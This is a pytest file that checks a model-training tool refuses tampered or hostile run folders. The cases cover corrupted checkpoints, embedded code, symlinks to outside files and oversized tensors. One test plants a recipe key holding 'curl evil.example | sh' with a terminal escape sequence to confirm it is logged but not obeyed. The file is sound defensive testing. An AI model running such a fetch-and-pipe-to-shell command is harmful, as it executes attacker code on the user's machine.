"""A run's folder that came from a stranger is resumed or refused in a sentence; nothing outside of it is written."""

from __future__ import annotations

import hashlib
import io
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch

from frcrn.cli.train import reporting
from frcrn.training import checkpoints
from frcrn.training.run import recipe_in, result_in
from tests.limits import bounded
from tests.strange_models import Code
from tests.training_runs import Dropping, Tones, network, recipe, trainer

State = dict[str, Any]


def go_on(folder: Path, *, resume: bool = True) -> Any:
    run = trainer(
        folder, recipe({"every": 9, "examples": 1}, max_steps=2), model=network(Dropping), valid_data=Tones(1)
    )
    return run.train(resume=resume)


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the folder of a run."""
    folder = tmp_path_factory.mktemp("whole") / "run"
    go_on(folder, resume=False)
    return folder


@pytest.fixture
def folder(whole: Path, tmp_path: Path) -> Path:
    """Return a copy of it, to change."""
    return Path(shutil.copytree(whole, tmp_path / "run"))


def rewrite(folder: Path, change: Callable[[State], Any]) -> None:
    """Change the newest checkpoint, and let its checksum fit."""
    path = checkpoints.found(folder / "checkpoints")[0]
    state = checkpoints.load(path)
    buffer = io.BytesIO()
    torch.save(change(state) or state, buffer)
    content = buffer.getvalue()
    path.write_bytes(content + checkpoints.MAGIC + hashlib.sha256(content).digest())


def bent(state: State) -> None:
    state["average"] = {name: torch.zeros(1).expand(2**20, 2**20) for name in state["average"]}


STATES: dict[str, Callable[[State], Any]] = {
    "a list": lambda state: [state],
    "nothing": lambda state: {"progress": {}},
    "no progress": lambda state: {key: value for key, value in state.items() if key != "progress"},
    "progress that nobody knows": lambda state: state["progress"].update(run="rm"),
    "steps in words": lambda state: state["progress"].update(step="two"),
    "steps before the first": lambda state: state["progress"].update(step=-5),
    "examples beyond all numbers": lambda state: state["progress"].update(examples=10**400),
    "no generators": lambda state: state.update(generators=5),
    "generators of another kind": lambda state: state.update(generators=[{"python": 1}]),
    "random numbers that are none": lambda state: state["generators"][0].update(torch=torch.zeros(3)),
    "sums in words": lambda state: state.update(sums={"loss": "much"}),
    "a network in words": lambda state: state.update(network={"mask_bound": "wide"}),
    "terabytes of one value": bent,
    "a table that holds itself": lambda state: state.update(model=state),
}


@pytest.mark.parametrize("name", STATES)
def test_a_checkpoint_that_is_none_is_refused(name: str, folder: Path) -> None:
    rewrite(folder, STATES[name])
    with bounded(seconds=20, gigabytes=2), pytest.raises(ValueError, match="run") as caught:
        go_on(folder)
    assert "\n" not in str(caught.value) and len(str(caught.value)) < 500


def test_a_checkpoint_with_code_runs_nothing(folder: Path, tmp_path: Path) -> None:
    rewrite(folder, lambda state: state | {"more": Code(tmp_path)})
    with pytest.raises(ValueError, match="none of the checkpoints is whole"):
        go_on(folder)
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    "content", [b"", b"[]", b"{}", b'{"result": 5}', b'{"result": {"rm": 1}}', b"[" * 100_000, b"\xff"]
)
def test_how_a_stage_ended_is_read_or_refused_by_name(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "done.json").write_bytes(content)
    with pytest.raises(ValueError, match=r"done.json: expected how the stage ended") as caught:
        result_in(tmp_path / "done.json")
    assert "\n" not in str(caught.value)


def test_a_recipe_without_an_end_is_none(tmp_path: Path) -> None:
    (tmp_path / "recipe.json").symlink_to("/dev/zero")
    with bounded(seconds=20, gigabytes=1):
        assert recipe_in(tmp_path) is None


@pytest.mark.parametrize("name", ["train.log", "log.jsonl", "recipe.json", "checkpoints/step_000000002.ckpt"])
def test_what_a_run_writes_does_not_follow_a_link(name: str, folder: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    (folder / name).unlink()
    (folder / name).symlink_to(victim)
    with pytest.raises(ValueError, match=f"{name}: is a link"):
        go_on(folder)
    assert victim.read_text() == "precious\n"


@pytest.mark.parametrize("name", ["checkpoints", "output"])
def test_no_folder_of_a_run_is_elsewhere(name: str, folder: Path, tmp_path: Path) -> None:
    os.rename(folder / name, tmp_path / "elsewhere")
    before = {path.name: path.read_bytes() for path in (tmp_path / "elsewhere").iterdir()}
    (folder / name).symlink_to(tmp_path / "elsewhere")
    with pytest.raises(ValueError, match=f"{name}: is a link"):
        go_on(folder)
    assert {path.name: path.read_bytes() for path in (tmp_path / "elsewhere").iterdir()} == before


def test_names_in_a_checkpoint_are_seen_and_not_obeyed(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rewrite(folder, lambda state: state["recipe"].update({"x\ncurl evil.example | sh\n\x1b[2J": 1}))
    with reporting(first=True):
        go_on(folder)
    told = capsys.readouterr().err
    assert r"recipe.x\ncurl evil.example | sh\n\x1b[2J differs" in told and "\x1b" not in told
    assert all(line[:2] == "20" for line in (folder / "train.log").read_text().splitlines())
